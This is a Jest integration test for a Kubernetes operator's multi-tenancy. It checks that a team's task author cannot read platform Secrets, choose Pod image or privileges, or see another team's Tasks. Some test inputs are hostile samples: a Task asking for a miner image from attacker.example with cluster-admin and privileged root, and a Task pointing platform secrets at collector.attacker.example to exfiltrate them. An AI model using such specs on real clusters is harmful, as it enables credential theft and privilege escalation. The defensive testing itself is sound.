/**
 * Tenancy, with RBAC enforced by the real API server: two dev teams share one Agent of the
 * platform team (the seed's cross-namespace layout). alice may only create and get Tasks in
 * dev-team-a, bob the same in dev-team-b; they authenticate with ServiceAccount tokens.
 *
 * What must hold: alice cannot read the platform's Secrets (directly, nor through the Pods and
 * ConfigMaps the reconciler makes for her); her Tasks cannot reach a namespace the Agent does
 * not allow; she cannot choose the Pod's image, service account or privileges (the Task has no
 * such fields; Pod-level settings come only from the Agent); she cannot read bob's Tasks or
 * their outputs; and two same-named Tasks of the two teams never touch each other's Pod,
 * ConfigMap, outputs or lifecycle (cross-namespace.integ.test.ts checks the names and task.md;
 * this adds outputs, stop and deletion, and names at the length limit).
 */
import { jest } from '@jest/globals';
import { CoreV1Api, CustomObjectsApi, KubeConfig, RbacAuthorizationV1Api, V1Pod } from '@kubernetes/client-node';
import { isApiError, tokenKubeConfig } from '../../harness/kube.js';
import { waitFor } from '../../harness/wait.js';
import { formatTerminationMessage } from '../../src/api/outputs-format.js';
import { TaskObject } from '../../src/reconciler/objects.js';
import { apiMessage } from '../../src/reconciler/runtime/api-errors.js';
import { condition, Scenario } from '../reconciler/support.js';

jest.setTimeout(90_000);

const G = { group: 'kubeopencode.io', version: 'v1alpha1' };
const s = new Scenario('tenancy');
let platform: string;
let teamA: string;
let teamB: string;
let asAlice: { custom: CustomObjectsApi; core: CoreV1Api };
let asBob: { custom: CustomObjectsApi; core: CoreV1Api };
const SECRET_VALUE = 'sk-platform-only-9f3c';

const task = (name: string, spec: object, metadata: object = {}) => ({ apiVersion: 'kubeopencode.io/v1alpha1', kind: 'Task', metadata: { name, ...metadata }, spec });
const agentRef = { name: 'opencode-agent', namespace: '' };

/** A namespace's task author: may create and get Tasks there, and nothing else anywhere. */
async function taskAuthor(namespace: string, name: string): Promise<{ custom: CustomObjectsApi; core: CoreV1Api }> {
  const rbac = s.kc.makeApiClient(RbacAuthorizationV1Api);
  await s.core.createNamespacedServiceAccount({ namespace, body: { metadata: { name } } });
  await rbac.createNamespacedRole({ namespace, body: { metadata: { name: 'task-author' }, rules: [{ apiGroups: ['kubeopencode.io'], resources: ['tasks'], verbs: ['create', 'get'] }] } });
  await rbac.createNamespacedRoleBinding({
    namespace,
    body: { metadata: { name: `${name}-task-author` }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'task-author' }, subjects: [{ kind: 'ServiceAccount', name, namespace }] },
  });
  const kc: KubeConfig = await tokenKubeConfig(namespace, name, { kc: s.kc });
  return { custom: kc.makeApiClient(CustomObjectsApi), core: kc.makeApiClient(CoreV1Api) };
}

/** The HTTP status a call fails with (0 if it succeeds). */
async function statusOf(call: () => Promise<unknown>): Promise<number> {
  try {
    await call();
    return 0;
  } catch (e) {
    if (isApiError(e)) return e.code;
    throw e;
  }
}

const taskOfPod = (p: V1Pod) => `${p.metadata?.annotations?.['kubeopencode.io/task-namespace']}/${p.metadata?.annotations?.['kubeopencode.io/task']}`;
const podsFor = async (namespace: string, name: string) => (await s.core.listNamespacedPod({ namespace: platform })).items.filter((p) => taskOfPod(p) === `${namespace}/${name}`);

beforeAll(async () => {
  await s.start();
  platform = await s.namespace({}, 'tenancy-platform');
  teamA = await s.namespace({}, 'tenancy-dev-team-a');
  teamB = await s.namespace({}, 'tenancy-dev-team-b');
  agentRef.namespace = platform;
  await s.core.createNamespacedSecret({ namespace: platform, body: { metadata: { name: 'anthropic-credentials' }, stringData: { 'api-key': SECRET_VALUE } } });
  await s.core.createNamespacedSecret({ namespace: platform, body: { metadata: { name: 'github-token' }, stringData: { token: SECRET_VALUE } } });
  await s.core.createNamespacedConfigMap({ namespace: platform, body: { metadata: { name: 'platform-notes' }, data: { 'notes.md': 'internal' } } });
  await s.createAgent(platform, 'opencode-agent', {
    allowedNamespaces: ['tenancy-dev-*'],
    executorImage: 'registry.example/devbox:approved',
    serviceAccountName: 'kubeopencode-agent',
    credentials: [{ name: 'anthropic-key', secretRef: { name: 'anthropic-credentials', key: 'api-key' }, env: 'ANTHROPIC_API_KEY' }],
    outputs: { parameters: [{ name: 'summary', path: '.outputs/summary' }] },
  });
  await s.createAgent(platform, 'staging-only', { allowedNamespaces: ['staging'] });
  [asAlice, asBob] = await Promise.all([taskAuthor(teamA, 'alice'), taskAuthor(teamB, 'bob')]);
  // Each Pod reports the namespace of its Task as its output: a crossed wire would show.
  s.outcome = (pod) => pod.metadata?.annotations?.['kubeopencode.io/task']?.startsWith('stays-')
    ? { phase: 'Running' }
    : { phase: 'Succeeded', terminationMessage: formatTerminationMessage({ parameters: { summary: `done for ${taskOfPod(pod)}` }, truncated: [], missing: [] }) };
  // The authorizer learns new bindings through an informer: wait until alice and bob can create.
  for (const [who, ns] of [[asAlice, teamA], [asBob, teamB]] as const) {
    await waitFor(() => who.custom.createNamespacedCustomObject({ ...G, namespace: ns, plural: 'tasks', body: task('hello', { description: 'hello', agentRef }) }),
      { timeoutMs: 30_000, description: `the RoleBinding in ${ns} to take effect` });
  }
});
afterAll(() => s.stop());

test('alice may create and get Tasks in dev-team-a, and nothing else: no Secrets, Pods, ConfigMaps or Agents of the platform, no Tasks of dev-team-b', async () => {
  const a = asAlice;
  const denied: [string, () => Promise<unknown>][] = [
    ['get the Agent\'s Secret', () => a.core.readNamespacedSecret({ namespace: platform, name: 'anthropic-credentials' })],
    ['list the platform\'s Secrets', () => a.core.listNamespacedSecret({ namespace: platform })],
    ['list the Pods that run her Tasks', () => a.core.listNamespacedPod({ namespace: platform })],
    ['get the ConfigMaps holding task.md', () => a.core.listNamespacedConfigMap({ namespace: platform })],
    ['get the Agent', () => a.custom.getNamespacedCustomObject({ ...G, namespace: platform, plural: 'agents', name: 'opencode-agent' })],
    ['get a Task of dev-team-b', () => a.custom.getNamespacedCustomObject({ ...G, namespace: teamB, plural: 'tasks', name: 'hello' })],
    ['list the Tasks of dev-team-b', () => a.custom.listNamespacedCustomObject({ ...G, namespace: teamB, plural: 'tasks' })],
    ['create a Task in dev-team-b', () => a.custom.createNamespacedCustomObject({ ...G, namespace: teamB, plural: 'tasks', body: task('intruder', { description: 'x', agentRef }) })],
    ['create a Pod in her own namespace', () => a.core.createNamespacedPod({ namespace: teamA, body: { metadata: { name: 'p' }, spec: { containers: [{ name: 'c', image: 'busybox' }] } } })],
    ['create a Secret in her own namespace', () => a.core.createNamespacedSecret({ namespace: teamA, body: { metadata: { name: 'x' } } })],
  ];
  const results = await Promise.all(denied.map(async ([what, call]) => [what, await statusOf(call)] as const));
  expect(results).toEqual(denied.map(([what]) => [what, 403]));
  expect(await statusOf(() => a.custom.getNamespacedCustomObject({ ...G, namespace: teamA, plural: 'tasks', name: 'hello' }))).toBe(0);
});

test('her Task runs in the Agent\'s namespace with the Agent\'s credential, whose value shows nowhere she can read', async () => {
  await asAlice.custom.createNamespacedCustomObject({ ...G, namespace: teamA, plural: 'tasks', body: task('stays-running', { description: 'x', agentRef }) });
  const running = await s.waitForTask(teamA, 'stays-running', (t) => !!t.status?.startTime, 'started');
  expect(running.status?.podNamespace).toBe(platform);
  const pod = (await s.pod(platform, running.status!.podName!))!;
  expect(pod.spec!.containers[0].env).toContainEqual({ name: 'ANTHROPIC_API_KEY', valueFrom: { secretKeyRef: { name: 'anthropic-credentials', key: 'api-key' } } });
  expect(await statusOf(() => asAlice.core.readNamespacedPod({ namespace: platform, name: pod.metadata!.name! }))).toBe(403);
  // What she can read of it (her Task, its Events) holds no Secret value.
  const mine = await asAlice.custom.getNamespacedCustomObject({ ...G, namespace: teamA, plural: 'tasks', name: 'stays-running' });
  expect(JSON.stringify(mine)).not.toContain(SECRET_VALUE);
  expect(JSON.stringify(await s.taskEvents(teamA, 'stays-running'))).not.toContain(SECRET_VALUE);
});

test('a Task for an Agent that does not allow her namespace fails with NamespaceNotAllowed, and no Pod is made anywhere', async () => {
  await asAlice.custom.createNamespacedCustomObject({ ...G, namespace: teamA, plural: 'tasks', body: task('elsewhere', { description: 'x', agentRef: { name: 'staging-only', namespace: platform } }) });
  const failed = await s.waitForPhase(teamA, 'elsewhere', 'Failed');
  expect(condition(failed, 'Ready')).toMatchObject({ reason: 'NamespaceNotAllowed', message: expect.stringContaining('allowedNamespaces: staging') });
  expect(await podsFor(teamA, 'elsewhere')).toEqual([]);
  expect((await s.core.listPodForAllNamespaces({ labelSelector: `kubeopencode.io/task-namespace=${teamA},kubeopencode.io/task=elsewhere` })).items).toEqual([]);
});

test('she cannot choose the Pod\'s image, service account, privileges or labels: the fields do not exist, and the Pod has the Agent\'s', async () => {
  const sneaky = {
    description: 'x',
    agentRef,
    image: 'attacker.example/miner:latest',
    executorImage: 'attacker.example/miner:latest',
    serviceAccountName: 'cluster-admin',
    securityContext: { privileged: true, runAsUser: 0 },
    podSpec: { hostNetwork: true, labels: { 'network-policy': 'allow-all' } },
  };
  // Strict field validation (kubectl's default) refuses the Task, naming every field.
  const refusal = await asAlice.custom.createNamespacedCustomObject({ ...G, namespace: teamA, plural: 'tasks', body: task('sneaky', sneaky), fieldValidation: 'Strict' })
    .then(() => 'created', apiMessage);
  for (const field of ['spec.image', 'spec.executorImage', 'spec.serviceAccountName', 'spec.securityContext', 'spec.podSpec']) expect(refusal).toContain(`unknown field "${field}"`);
  expect(refusal).toContain('(HTTP 400)');

  // Without strict validation the API server drops them (structural schema); labels on the Task stay on the Task.
  await asAlice.custom.createNamespacedCustomObject({ ...G, namespace: teamA, plural: 'tasks', body: task('sneaky', sneaky, { labels: { 'network-policy': 'allow-all' }, annotations: { 'seccomp.security.alpha.kubernetes.io/pod': 'unconfined' } }) });
  const stored = await asAlice.custom.getNamespacedCustomObject({ ...G, namespace: teamA, plural: 'tasks', name: 'sneaky' }) as TaskObject;
  expect(Object.keys(stored.spec).sort()).toEqual(['agentRef', 'description']);
  const done = await s.waitForPhase(teamA, 'sneaky', 'Completed');
  const pod = (await s.pod(platform, done.status!.podName!))!;
  const spec = pod.spec!;
  expect(spec.containers.find((c) => c.name === 'agent')!.image).toBe('registry.example/devbox:approved');
  expect(spec.serviceAccountName).toBe('kubeopencode-agent');
  expect(spec.hostNetwork).toBeUndefined();
  expect(spec.securityContext).toMatchObject({ runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' } });
  for (const c of [...spec.initContainers!, ...spec.containers]) {
    const sc = c.securityContext;
    expect({ name: c.name, privileged: sc?.privileged, escalation: sc?.allowPrivilegeEscalation, drop: sc?.capabilities?.drop })
      .toEqual({ name: c.name, privileged: undefined, escalation: false, drop: ['ALL'] });
  }
  expect(pod.metadata!.labels?.['network-policy']).toBeUndefined();
  expect(pod.metadata!.annotations?.['seccomp.security.alpha.kubernetes.io/pod']).toBeUndefined();
});

test('a Task cannot make the Agent\'s Pod hand one of the platform\'s Secrets to a URL or repository of its choosing', async () => {
  // The Agent names anthropic-credentials; github-token is another Secret of the platform team.
  // A Task that names it in a context would have the Pod send it where the Task says.
  const contexts = [
    { type: 'URL', url: { source: 'https://collector.attacker.example/u', secretRef: { name: 'github-token' } }, mountPath: 'u.txt' },
    { type: 'Git', git: { repository: 'https://git.attacker.example/r.git', secretRef: { name: 'anthropic-credentials' } }, mountPath: 'src' },
  ];
  const refusal = await asAlice.custom.createNamespacedCustomObject({ ...G, namespace: teamA, plural: 'tasks', body: task('exfiltrate', { description: 'x', agentRef, contexts }) })
    .then(() => undefined, apiMessage);
  if (refusal === undefined) {
    // Accepted by the API server: then the reconciler must refuse it, saying why, before any Pod exists.
    const t = await s.waitForTask(teamA, 'exfiltrate', (x) => x.status?.phase === 'Failed' || !!x.status?.podName, 'refused, or given a Pod');
    expect({ phase: t.status?.phase, podName: t.status?.podName }).toEqual({ phase: 'Failed', podName: undefined });
    expect(condition(t, 'Ready')?.message).toMatch(/secret/i);
  }
  const mounted = (await podsFor(teamA, 'exfiltrate')).flatMap((p) => (p.spec?.volumes ?? []).map((v) => v.secret?.secretName).filter(Boolean));
  expect(mounted).toEqual([]);
});

test('same-named Tasks of two teams on one Agent, at the name length limit: own Pod, own outputs, own stop and deletion', async () => {
  const name = `fix-bug-${'x'.repeat(55)}`; // 63 characters, the longest a label value may be
  await asAlice.custom.createNamespacedCustomObject({ ...G, namespace: teamA, plural: 'tasks', body: task(name, { description: 'from team a', agentRef }) });
  await asBob.custom.createNamespacedCustomObject({ ...G, namespace: teamB, plural: 'tasks', body: task(name, { description: 'from team b', agentRef }) });
  const [a, b] = await Promise.all([s.waitForPhase(teamA, name, 'Completed'), s.waitForPhase(teamB, name, 'Completed')]);
  expect(a.status!.podName).not.toBe(b.status!.podName);
  expect(a.status!.podName!.length).toBeLessThanOrEqual(63);
  expect(a.status?.outputs?.parameters).toEqual({ summary: `done for ${teamA}/${name}` });
  expect(b.status?.outputs?.parameters).toEqual({ summary: `done for ${teamB}/${name}` });
  // Each sees only its own, and only through the Task it may read.
  expect(await statusOf(() => asAlice.custom.getNamespacedCustomObject({ ...G, namespace: teamB, plural: 'tasks', name }))).toBe(403);
  expect(await statusOf(() => asBob.custom.getNamespacedCustomObject({ ...G, namespace: teamA, plural: 'tasks', name }))).toBe(403);

  // Stop one of two same-named running Tasks: the other runs on.
  const stays = `stays-${'y'.repeat(57)}`;
  await asAlice.custom.createNamespacedCustomObject({ ...G, namespace: teamA, plural: 'tasks', body: task(stays, { description: 'a', agentRef }) });
  await asBob.custom.createNamespacedCustomObject({ ...G, namespace: teamB, plural: 'tasks', body: task(stays, { description: 'b', agentRef }) });
  const [ra, rb] = await Promise.all([teamA, teamB].map((ns) => s.waitForTask(ns, stays, (t) => !!t.status?.startTime, 'started')));
  await s.annotateTask(teamB, stays, { 'kubeopencode.io/stop': 'true' });
  await s.waitForPhase(teamB, stays, 'Completed');
  expect(await s.pod(platform, rb.status!.podName!)).toBeUndefined();
  expect((await s.getTask(teamA, stays)).status?.phase).toBe('Running');
  expect(await s.pod(platform, ra.status!.podName!)).toBeDefined();

  // Delete bob's finished Task: his Pod and ConfigMap go, alice's stay.
  await s.deleteTask(teamB, name);
  await waitFor(async () => !(await s.pod(platform, b.status!.podName!)), { timeoutMs: 20_000, description: 'bob\'s Pod to go' });
  await waitFor(() => s.core.readNamespacedConfigMap({ namespace: platform, name: b.status!.podName! }).then(() => false, () => true), { timeoutMs: 20_000, description: 'bob\'s ConfigMap to go' });
  expect(await s.pod(platform, a.status!.podName!)).toBeDefined();
  expect((await s.core.readNamespacedConfigMap({ namespace: platform, name: a.status!.podName! })).data?.['task.md']).toBe('from team a\n');
});
